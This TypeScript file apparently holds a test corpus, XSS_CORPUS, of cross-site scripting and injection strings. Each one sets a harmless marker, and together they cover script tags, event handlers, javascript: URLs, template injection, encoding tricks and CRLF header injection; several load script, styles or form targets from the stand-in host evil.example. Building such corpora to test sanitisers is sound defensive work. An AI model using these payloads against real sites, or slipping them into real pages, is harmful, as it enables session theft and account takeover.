/** What runs in a browser if a page takes it for anything but words. Each leaves a trace: `xss` on the window, or an element `x-xss`. */
const RUN = 'window.xss=1';
const Q = '"';

export const XSS_CORPUS: readonly string[] = [
  // Elements
  `<script>${RUN}</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<script>${RUN}//`, `<scr<script>ipt>${RUN}</scr</script>ipt>`, `</script><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`, `<img src=x onerror=${RUN}//`, `<image src=x onerror=${RUN}>`, `<svg onload=${RUN}>`, `<svg/onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`, `<math><mtext></form><x-xss>`, `<body onload=${RUN}>`, `<details open ontoggle=${RUN}>x</details>`, `<video><source onerror=${RUN}></video>`,
  `<audio src onerror=${RUN}>`, `<iframe srcdoc="<script>parent.xss=1</script>">`, `<iframe src="javascript:parent.xss=1">`, `<object data="javascript:${RUN}">`, `<embed src="javascript:${RUN}">`,
  `<base href=//evil.example/>`, `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`, `<link rel=stylesheet href=//evil.example/x.css>`, `<style>@import "//evil.example"</style>`, `<style>*{background:url(//evil.example)}</style>`,
  `<form action=//evil.example><input name=x></form>`, `<button formaction="javascript:${RUN}">x</button>`, `<input autofocus onfocus=${RUN}>`, `<select autofocus onfocus=${RUN}>`, `<textarea autofocus onfocus=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`, `<a href="javascript:${RUN}">x</a>`, `<template><x-xss></template>`, `<x-xss>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<!--><img src=x onerror=${RUN}>-->`, `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  // Out of an attribute, a text area, a title, a comment
  `${Q}><script>${RUN}</script>`, `'><script>${RUN}</script>`, `${Q} onmouseover=${RUN} x=${Q}`, `' onfocus=${RUN} autofocus x='`, `${Q} autofocus onfocus=${RUN} ${Q}`, '` onmouseover=window.xss=1 x=`',
  `</textarea><img src=x onerror=${RUN}>`, `</title><script>${RUN}</script>`, `--><x-xss>`, `</style><x-xss>`, `</option></select><x-xss>`, `]]></title><x-xss/>`, `</button></form><x-xss>`,
  // Addresses
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\tscript:${RUN}`, `\u0001javascript:${RUN}`, ` javascript:${RUN}`, `data:text/html,<script>${RUN}</script>`, `vbscript:msgbox(1)`, `javascript://evil.example/%0a${RUN}`, `//evil.example/x`,
  // Templates and double decoding
  `{{constructor.constructor('${RUN}')()}}`, `{% raw %}<x-xss>{% endraw %}`, `\${${RUN}}`, `&lt;script&gt;${RUN}&lt;/script&gt;`, `&#60;x-xss&#62;`, `%3Cscript%3E${RUN}%3C/script%3E`, `\\u003cscript\\u003e${RUN}`, `＜script＞${RUN}`,
  // Lines that end where they should not
  `x\r\nSet-Cookie: xss=1`, `x\r\n\r\n<x-xss>`, `x\nATTACH:https://evil.example`, `\u202e<x-xss>\u202c`, `<x-xss\u0000>`,
]; // prettier-ignore
